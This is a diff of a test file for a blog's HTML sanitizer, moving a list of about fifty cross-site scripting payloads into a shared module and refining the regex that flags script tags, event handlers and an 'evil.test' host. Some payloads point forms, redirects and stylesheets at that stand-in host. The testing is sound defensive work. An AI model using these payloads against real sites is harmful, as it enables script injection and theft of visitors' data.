@@ -1,65 +1,13 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { hostileTexts } from "../support/hostile";
 import { cleanHtml, htmlForReading, isBlank, plainText, summary, textLength } from "~/areas/blog/clean-html.server";
 
-const hostile = [
-  `<script>alert(1)</script>`,
-  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
-  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
-  `<p onclick="alert(1)">x</p>`,
-  `<p/onmouseover=alert(1)>x</p>`,
-  `<img src=x onerror=alert(1)>`,
-  `<img src="javascript:alert(1)">`,
-  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
-  `<img src="https://evil.test/pixel.gif">`,
-  `<img src="//evil.test/pixel.gif">`,
-  `<img src="/files/../v1/authenticate?x=1">`,
-  `<img src="/files/abcdefgh1234" srcset="https://evil.test/x.png 2x" onload=alert(1)>`,
-  `<a href="javascript:alert(1)">x</a>`,
-  `<a href="JaVaScRiPt:alert(1)">x</a>`,
-  `<a href="java\tscript:alert(1)">x</a>`,
-  `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
-  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<a href="//evil.test">x</a>`,
-  `<a href="/app/oauth/logout">x</a>`,
-  `<a href="https://ok.test" onclick="alert(1)" style="position:fixed;inset:0">x</a>`,
-  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
-  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
-  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
-  `<iframe src="https://evil.test"></iframe>`,
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
-  `<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
-  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
-  `<base href="https://evil.test/">`,
-  `<link rel=stylesheet href="https://evil.test/x.css">`,
-  `<style>@import "https://evil.test/x.css"; body{display:none}</style>`,
-  `<p style="background:url(javascript:alert(1))">x</p>`,
-  `<p style="background-color:red;background-image:url(https://evil.test/x)">x</p>`,
-  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>`,
-  `<p style="color:expression(alert(1))">x</p>`,
-  `<p style="font-size:400pt;line-height:99">x</p>`,
-  `<p id="main" class="btn btn-primary" name="csrf">x</p>`,
-  `<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>`,
-  `<details open ontoggle=alert(1)>x</details>`,
-  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-  `<template><script>alert(1)</script></template>`,
-  `<textarea></textarea><script>alert(1)</script>`,
-  `<title></title><img src=x onerror=alert(1)>`,
-  `<!--><img src=x onerror=alert(1)>-->`,
-  `<![CDATA[<script>alert(1)</script>]]>`,
-  `<p>\u0000<scr\u0000ipt>alert(1)</script></p>`,
-  `"><img src=x onerror=alert(1)>`,
-  `<xmp><script>alert(1)</script></xmp>`,
-  `${"<b>".repeat(2000)}x`,
-];
-
 const forbidden =
-  /<\s*\/?\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|video|audio|template|textarea|title|noscript|details)|\son\w+\s*=|<[^>]*(javascript|vbscript|data):|<[^>]*url\(|position|expression\(|srcset|\sid=|\sclass=|<[^>]*evil\.test/i;
+  /<\s*\/?\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|video|audio|template|textarea|title|noscript|details)|<[^>]*\son\w+\s*=|<[^>]*(javascript|vbscript|data):|<[^>]*url\(|position|expression\(|srcset|\sid=|\sclass=|<[^>]*evil\.test/i;
 
 describe("the text of a post is cleaned on write and on read (design 9)", () => {
-  it.each(hostile.map((payload) => [payload.slice(0, 80), payload]))("takes the poison out of %s", (_, payload) => {
+  it.each(hostileTexts.map((payload) => [payload.slice(0, 80), payload]))("takes the poison out of %s", (_, payload) => {
     for (const html of [payload, `<p>앞</p>${payload}<p>뒤</p>`, `안녕 ${payload}`]) {
       expect(cleanHtml(html)).not.toMatch(forbidden);
       expect(htmlForReading(html)).not.toMatch(forbidden);
@@ -82,6 +30,12 @@ describe("the text of a post is cleaned on write and on read (design 9)", () => 
     );
     expect(cleanHtml(`<p><a href="mailto:a@b.test">나</a></p>`)).toContain(`href="mailto:a@b.test"`);
     expect(cleanHtml(`<p><a href="ftp://a.test">다</a></p>`)).toBe(`<p><span>다</span></p>`);
+  });
+
+  it("takes out a link that shows nothing, and keeps one around a picture", () => {
+    expect(cleanHtml(`<p>글<a href="https://a.test"><img src=x></a><a href="https://a.test"> </a></p>`)).toBe("<p>글</p>");
+    const pictured = `<p><a href="https://a.test" rel="noopener nofollow" target="_blank"><img src="/files/0123456789abcdef" alt="" /></a></p>`;
+    expect(cleanHtml(pictured)).toBe(pictured);
   });
 
   it("keeps pictures of our own store only, also when they come with our own address", () => {
